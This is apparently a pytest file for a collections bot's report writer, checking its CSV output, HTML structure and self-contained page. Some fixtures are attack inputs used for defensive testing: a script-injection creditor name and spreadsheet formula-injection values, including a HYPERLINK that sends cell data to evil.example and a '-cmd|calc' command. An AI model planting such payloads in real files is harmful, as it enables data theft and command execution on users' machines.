import csv
import re
from dataclasses import replace
from datetime import date
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path

import pytest

from bot.reports.render import REPORT_HTML, ReportFigures, write_report

HOSTILE = "<script>alert(1)</script>"
CSV_NAMES = [
    "collected.csv",
    "recovery.csv",
    "agreements_by_channel.csv",
    "agreements_by_tier.csv",
    "kept_rates.csv",
    "discount.csv",
    "time_to_agreement.csv",
    "commission.csv",
]
CHARTS = ["collected", "recovery", "agreements_by_channel", "agreements_by_tier", "kept_rates", "commission"]


def figures() -> ReportFigures:
    return ReportFigures(
        date_from=date(2024, 1, 1),
        date_to=date(2024, 3, 31),
        currency="USD",
        collected_by_month_and_creditor=[
            ("2024-01", "Northwind Bank", Decimal("1250.00")),
            ("2024-01", HOSTILE, Decimal("80.5")),
            ("2024-03", "Northwind Bank", Decimal("0.10")),
            ("2024-03", "Contoso & Sons, \"Ltd\"", Decimal("1E+3")),  # a Decimal that str() writes in E notation
        ],
        recovery_rate=[
            ("Northwind Bank", Decimal("1250.10"), Decimal("10000.00"), Decimal("0.12501")),
            (HOSTILE, Decimal("80.50"), Decimal("500.00"), Decimal("0.161")),
        ],
        agreements_by_channel=[("web", "plan", 4), ("sms", "settlement", 2), ("call", "promise", 1)],
        agreements_by_tier=[("bot", "plan", 4), ("bot", "settlement", 1), ("supervisor", "settlement", 1)],
        kept_rates=[("plan", 3, 1, 2, Decimal("0.75")), ("promise", 0, 0, 1, Decimal("0"))],
        average_discount_pct=Decimal("12.5"),
        days_to_first_agreement=[("Northwind Bank", Decimal("3.25")), (HOSTILE, Decimal("0E-8"))],
        commission=[
            ("alice", "Northwind Bank", Decimal("1250.10"), Decimal("2.5"), Decimal("31.25")),
            ("bob", HOSTILE, Decimal("80.50"), Decimal("2.5"), Decimal("2.01")),
        ],
    )


def empty_figures() -> ReportFigures:
    return ReportFigures(
        date_from=date(2024, 1, 1), date_to=date(2024, 1, 31), currency="GBP",
        collected_by_month_and_creditor=[], recovery_rate=[], agreements_by_channel=[], agreements_by_tier=[],
        kept_rates=[], average_discount_pct=Decimal(0), days_to_first_agreement=[], commission=[],
    )


def read_csv(path: Path) -> tuple[list[str], list[list[str]]]:
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    return rows[0], rows[1:]


def as_decimals(rows: list[list[str]], columns: set[int]) -> list[tuple[object, ...]]:
    return [tuple(Decimal(v) if i in columns else v for i, v in enumerate(row)) for row in rows]


def as_ints(rows: list[list[str]], columns: set[int]) -> list[tuple[object, ...]]:
    return [tuple(int(v) if i in columns else v for i, v in enumerate(row)) for row in rows]


class Structure(HTMLParser):
    """Checks the page's elements nest properly and gathers ids, links and the elements used."""

    VOID = {"meta", "br", "hr", "img", "input", "link", "path", "use", "rect", "stop"}

    def __init__(self) -> None:
        super().__init__()
        self.stack: list[str] = []
        self.ids: list[str] = []
        self.tags: list[str] = []
        self.urls: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.handle_startendtag(tag, attrs)
        if tag not in self.VOID:
            self.stack.append(tag)

    def handle_startendtag(self, tag, attrs):
        self.tags.append(tag)
        values = dict(attrs)
        if "id" in values:
            self.ids.append(values["id"])
        for name in ("href", "src", "xlink:href"):
            if values.get(name):
                self.urls.append(values[name])

    def handle_endtag(self, tag):
        if tag in self.VOID:
            return
        assert self.stack and self.stack[-1] == tag, f"</{tag}> closes <{self.stack[-1] if self.stack else None}>"
        self.stack.pop()


def parse(page: str) -> Structure:
    parser = Structure()
    parser.feed(page)
    parser.close()
    assert parser.stack == []
    return parser


def test_writes_the_page_and_one_csv_per_figure(tmp_path):
    out = tmp_path / "report" / "2024-q1"  # made if missing
    written = write_report(figures(), out)
    assert [p.name for p in written] == [REPORT_HTML, *CSV_NAMES]
    assert all(p.parent == out and p.is_file() for p in written)


def test_csv_rows_are_the_figures(tmp_path):
    f = figures()
    write_report(f, tmp_path)

    header, rows = read_csv(tmp_path / "collected.csv")
    assert header == ["month", "creditor", "amount", "currency"]
    assert as_decimals(rows, {2}) == [(*row, "USD") for row in f.collected_by_month_and_creditor]

    header, rows = read_csv(tmp_path / "recovery.csv")
    assert header == ["creditor", "collected", "placed_balance", "rate", "currency"]
    assert as_decimals(rows, {1, 2, 3}) == [(*row, "USD") for row in f.recovery_rate]

    header, rows = read_csv(tmp_path / "agreements_by_channel.csv")
    assert header == ["channel", "kind", "count"]
    assert as_ints(rows, {2}) == f.agreements_by_channel

    header, rows = read_csv(tmp_path / "agreements_by_tier.csv")
    assert header == ["tier", "kind", "count"]
    assert as_ints(rows, {2}) == f.agreements_by_tier

    header, rows = read_csv(tmp_path / "kept_rates.csv")
    assert header == ["kind", "kept", "broken", "pending", "kept_rate"]
    assert [(k, int(a), int(b), int(c), Decimal(r)) for k, a, b, c, r in rows] == f.kept_rates

    header, rows = read_csv(tmp_path / "discount.csv")
    assert header == ["settlements", "average_discount_pct"]
    assert [(int(n), Decimal(pct)) for n, pct in rows] == [(2, f.average_discount_pct)]

    header, rows = read_csv(tmp_path / "time_to_agreement.csv")
    assert header == ["creditor", "average_days"]
    assert as_decimals(rows, {1}) == f.days_to_first_agreement

    header, rows = read_csv(tmp_path / "commission.csv")
    assert header == ["collector", "creditor", "collected", "commission_pct", "commission", "currency"]
    assert as_decimals(rows, {2, 3, 4}) == [(*row, "USD") for row in f.commission]


def test_decimals_are_written_plainly(tmp_path):
    write_report(figures(), tmp_path)
    text = "".join((tmp_path / name).read_text(encoding="utf-8") for name in CSV_NAMES)
    assert not re.search(r"\d[eE][+-]?\d", text)  # no scientific notation
    _, rows = read_csv(tmp_path / "collected.csv")
    assert [r[2] for r in rows] == ["1250.00", "80.5", "0.10", "1000"]  # as given: no float rounding, places kept
    _, rows = read_csv(tmp_path / "time_to_agreement.csv")
    assert rows[1][1] == "0.00000000"


def test_page_has_each_chart_and_table(tmp_path):
    write_report(figures(), tmp_path)
    page = (tmp_path / REPORT_HTML).read_text(encoding="utf-8")
    structure = parse(page)
    assert structure.tags.count("svg") == len(CHARTS)
    assert structure.tags.count("figure") == len(CHARTS)
    assert structure.tags.count("figcaption") == len(CHARTS)
    assert structure.tags.count("table") == len(CSV_NAMES)
    for key in CHARTS:
        section = page[page.index(f'<section id="{key}"'):]
        section = section[: section.index("</section>")]
        assert "<figure>" in section and f'aria-labelledby="{key}-caption"' in section
        assert "<svg" in section and "<figcaption" in section and f'<table id="{key}-table">' in section
    for name in CSV_NAMES:
        assert f'href="{name}"' in page
    assert len(structure.ids) == len(set(structure.ids)), "ids repeat across the inlined charts"


def test_page_is_self_contained(tmp_path):
    write_report(figures(), tmp_path)
    page = (tmp_path / REPORT_HTML).read_text(encoding="utf-8")
    structure = parse(page)
    assert "script" not in structure.tags
    assert not {"link", "img", "iframe", "object"} & set(structure.tags)
    # Links go to the page's own anchors and CSV files beside it, never elsewhere.
    assert all(url.startswith("#") or url in CSV_NAMES for url in structure.urls), structure.urls
    assert "@import" not in page and "url(http" not in page and "<?xml" not in page


def test_names_from_files_are_escaped(tmp_path):
    write_report(figures(), tmp_path)
    page = (tmp_path / REPORT_HTML).read_text(encoding="utf-8")
    assert HOSTILE not in page
    assert "<script" not in page.lower()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "Contoso &amp; Sons, &quot;Ltd&quot;" in page


def test_money_carries_the_currency(tmp_path):
    write_report(figures(), tmp_path)
    page = (tmp_path / REPORT_HTML).read_text(encoding="utf-8")
    assert "$1,250.00" in page and "$80.50" in page and "$1,000.00" in page
    assert "Total collected: $2,330.60." in page
    assert "12.5%" in page and "75.0%" in page and "none decided yet" in page


def test_same_figures_give_the_same_bytes(tmp_path):
    first = {p.name: p.read_bytes() for p in write_report(figures(), tmp_path / "a")}
    second = {p.name: p.read_bytes() for p in write_report(figures(), tmp_path / "b")}
    assert first == second


def test_empty_figures_give_a_page_that_says_so(tmp_path):
    written = write_report(empty_figures(), tmp_path)
    assert [p.name for p in written] == [REPORT_HTML, *CSV_NAMES]
    page = (tmp_path / REPORT_HTML).read_text(encoding="utf-8")
    structure = parse(page)
    assert "svg" not in structure.tags and "table" not in structure.tags
    assert "No payments were collected in this period." in page
    assert "No settlements were agreed in this period." in page
    assert "2024-01-01 to 2024-01-31" in page
    for name in CSV_NAMES:
        header, rows = read_csv(tmp_path / name)
        assert header and rows == []


def test_overwrites_its_own_files_only(tmp_path):
    (tmp_path / "notes.txt").write_text("keep me")
    (tmp_path / "collected.csv").write_text("stale")
    write_report(empty_figures(), tmp_path)
    assert (tmp_path / "notes.txt").read_text() == "keep me"
    assert (tmp_path / "collected.csv").read_text(encoding="utf-8").splitlines() == ["month,creditor,amount,currency"]


@pytest.mark.parametrize("count", [1, 12])
def test_many_creditors_still_draw(tmp_path, count):
    f = figures()
    rows = [("2024-02", f"Creditor {i:02d}", Decimal(10 * (i + 1))) for i in range(count)]
    write_report(ReportFigures(**{**f.__dict__, "collected_by_month_and_creditor": rows}), tmp_path)
    _, written = read_csv(tmp_path / "collected.csv")
    assert len(written) == count
    page = (tmp_path / REPORT_HTML).read_text(encoding="utf-8")
    assert page.count("Creditor 00") == 1  # in the table; the chart's text is drawn as paths


def test_a_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text(tmp_path):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    base = figures()
    rows = [("2026-10", hostile, Decimal("10.00")), ("2026-10", "@SUM(1+1)", Decimal("5.00"))]
    write_report(replace(base, collected_by_month_and_creditor=rows, commission=[("-cmd|calc", "Acme", Decimal("1"),
                                                                                  Decimal("8"), Decimal("0.08"))]),
                 tmp_path)
    collected = list(csv.reader((tmp_path / "collected.csv").open(encoding="utf-8")))
    assert [row[1] for row in collected[1:]] == ["'" + hostile, "'@SUM(1+1)"]
    commission = list(csv.reader((tmp_path / "commission.csv").open(encoding="utf-8")))
    assert commission[1][0] == "'-cmd|calc" and commission[1][2] == "1"  # numbers are left as they are
